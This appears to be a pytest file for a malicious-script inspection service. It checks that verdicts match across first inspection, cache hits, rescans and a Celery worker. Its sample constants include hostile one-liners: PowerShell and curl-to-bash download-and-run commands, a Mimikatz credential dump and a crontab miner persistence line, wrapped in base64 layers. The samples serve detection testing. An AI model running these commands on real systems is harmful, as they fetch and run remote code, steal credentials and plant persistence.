"""The same payload under the same rules gets the same findings and score whatever path analyses
it: the first inspection, a cache hit, a full rescan (embedded engine, SQLite) and a Celery
worker (real subprocess, Redis).

The payloads are a seeded sample of the project corpus (submitted as files under their names,
so types decided from names are exercised) and generated layered scripts: PowerShell and shell
wrapped one to four times, and an extension whose two commands share decoded layers at
different depths (the shared child must be placed the same way on every path).
"""

from __future__ import annotations

import asyncio
import base64
import json
import random
import secrets
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import sqlalchemy as sa

from inspector.config import Settings
from inspector.extensions.request import InputKind, InspectionInput
from inspector.model import Verdict
from inspector.pipeline import Inspector
from inspector.rescan.scanner import ArtifactScanner
from inspector.service.rescan_service import run_rescan, start_rescan
from inspector.store import Store
from inspector.store.schema import inspections
from inspector.store.testing import subprocess_env, temporary_store
from inspector.tasks.batch_runner import LocalBatchRunner
from inspector.tasks.celery_app import make_celery, submit_inspection
from tests.corpus.build import CORPUS_DIR
from tests.tasks.test_celery import CLI, _stop, broker  # noqa: F401 (fixture)
from tests.timing import poll

SEED = 18
CORPUS_SAMPLE = 24
LAYERED = 8

PS_BASES = ["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
            "Get-Service | Where-Object Status -eq Running | Select-Object -First 5",
            "Invoke-Mimikatz -DumpCreds"]
SH_BASES = ["curl -s http://198.51.100.7/x.sh | bash", "apt-get update -y && apt-get install -y nginx",
            "crontab -l | { cat; echo '* * * * * /tmp/.x/miner'; } | crontab -"]


def ps_layer(text: str) -> str:
    return "powershell -NoProfile -EncodedCommand " + base64.b64encode(text.encode("utf-16-le")).decode()


def sh_layer(text: str) -> str:
    return "echo " + base64.b64encode(text.encode()).decode() + " | base64 -d | bash"


def wrapped(text: str, layer: object, times: int) -> str:
    for _ in range(times):
        text = layer(text)  # type: ignore[operator]
    return text


def payloads() -> list[InspectionInput]:
    rng = random.Random(SEED)
    manifest = [json.loads(line) for line in (CORPUS_DIR / "manifest.jsonl").read_text().splitlines() if line.strip()]
    obfuscated = [r for r in manifest if r["obfuscation"] != "none"]
    picked = rng.sample(obfuscated, CORPUS_SAMPLE // 2) + rng.sample(manifest, CORPUS_SAMPLE // 2)
    inputs = [InspectionInput(kind=InputKind.FILE, content=(CORPUS_DIR / r["path"]).read_bytes(),
                              filename=Path(r["path"]).name) for r in picked]
    for _ in range(LAYERED):
        bases, layer = rng.choice([(PS_BASES, ps_layer), (SH_BASES, sh_layer)])
        text = wrapped(rng.choice(bases), layer, rng.randint(1, 4))
        inputs.append(InspectionInput(kind=InputKind.SCRIPT, content=text.encode()))
    shared = rng.choice(SH_BASES)
    inputs.append(InspectionInput(kind=InputKind.EXTENSION, body={"properties": {
        "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
        "settings": {"commandToExecute": sh_layer(shared)},
        "protectedSettings": {"commandToExecute": wrapped(shared, sh_layer, 3)},
    }}))
    return inputs


def judged(verdict: Verdict) -> tuple[object, ...]:
    """What must not depend on the path: the class, the score, the alerts and every finding."""
    findings = sorted((f.id, f.artifact or "", f.score, f.count, f.location.offset if f.location else -1)
                      for f in verdict.findings)
    return verdict.verdict, verdict.score, sorted({a.alertType for a in verdict.alerts}), findings


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    async with temporary_store("sqlite", tmp_path / "data", fetch=False, rescan_processes=1) as opened:
        yield opened


async def current_verdict(store: Store, inspection_id: str) -> Verdict:
    stored = await store.inspections.get(inspection_id)
    assert stored is not None and stored.verdict is not None, inspection_id
    return stored.verdict


async def test_first_inspection_cache_hit_and_full_rescan_judge_alike(store: Store) -> None:
    inspector = await Inspector.start(store.settings, workers=0, fetching=False, cache=store.analysis_cache)
    first: dict[str, Verdict] = {}
    try:
        for n, inp in enumerate(payloads()):
            result = await inspector.inspect(inp, inspection_id=f"d{n:03d}", fetch=False, input_name=inp.filename)
            first[result.verdict.id] = result.verdict
            await store.inspections.save_completed(result.verdict.id, inp.kind.value, result.plan.redacted_request,
                                                   result.plan.context, None, inp.filename, result.verdict,
                                                   result.blobs)
        assert any(f.id == "heur.obfuscation.layers" for v in first.values() for f in v.findings)
        hits = store.analysis_cache.stats.hits
        for n, inp in enumerate(payloads()):
            again = await inspector.inspect(inp, inspection_id=f"d{n:03d}", fetch=False, input_name=inp.filename)
            assert judged(again.verdict) == judged(first[again.verdict.id]), again.verdict.id
        assert store.analysis_cache.stats.hits > hits  # the second pass was served from the cache
    finally:
        await inspector.close()

    scanner = await asyncio.to_thread(ArtifactScanner.from_settings, store.settings, "full")
    info, _ = await start_rescan(store, ruleset_version=scanner.ruleset_version, rule_count=scanner.rule_count,
                                 analyzer_version=scanner.analyzer_version)
    runner = LocalBatchRunner(store.settings, processes=1)
    try:
        final = await run_rescan(store, info.id, runner, settings=store.settings)
    finally:
        runner.close()
    assert final.status == "done" and final.progress.artifacts_missing == 0
    for inspection_id, verdict in first.items():
        assert judged(await current_verdict(store, inspection_id)) == judged(verdict), inspection_id
    assert final.changes_count == 0


@pytest.fixture
async def celery_store(tmp_path: Path, broker: str) -> AsyncIterator[Store]:  # noqa: F811
    async with temporary_store("sqlite", tmp_path / "celery", fetch=False, broker_url=broker, engine="celery",
                               celery_queue=f"test-{secrets.token_hex(4)}") as opened:
        yield opened


@pytest.mark.redis
async def test_a_celery_worker_judges_as_the_first_inspection_does(celery_store: Store, tmp_path: Path) -> None:
    settings = celery_store.settings
    inputs = payloads()
    local = await Inspector.start(Settings(data_dir=tmp_path / "local", fetch=False), workers=0, fetching=False)
    try:
        expected = {f"w{n:03d}": (await local.inspect(inp, inspection_id=f"w{n:03d}", fetch=False,
                                                      input_name=inp.filename)).verdict
                    for n, inp in enumerate(inputs)}
    finally:
        await local.close()
    app = make_celery(settings)
    try:
        for n, inp in enumerate(inputs):
            await celery_store.inspections.create(f"w{n:03d}", inp.kind.value, {}, None, None, inp.filename)
            submit_inspection(app, settings, f"w{n:03d}", inp, False)
    finally:
        app.close()
    env = subprocess_env(settings, INSPECTOR_BROKER_URL=settings.broker_url or "",
                         INSPECTOR_CELERY_QUEUE=settings.celery_queue, INSPECTOR_FETCH="false")
    log = tmp_path / "worker.log"
    with open(log, "ab") as out:
        worker = subprocess.Popen([*CLI, "worker", "--concurrency", "1", "--loglevel", "WARNING"], env=env,
                                  stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        async def unfinished() -> int:
            async with celery_store.database.read() as conn:
                return int(await conn.scalar(sa.select(sa.func.count()).select_from(inspections)
                                             .where(inspections.c.status.in_(("queued", "running")))) or 0)

        await poll(unfinished, lambda left: left == 0, what="the worker finished every inspection")
    finally:
        _stop(worker)
    for inspection_id, verdict in expected.items():
        assert judged(await current_verdict(celery_store, inspection_id)) == judged(verdict), \
            (inspection_id, log.read_text()[-2000:])
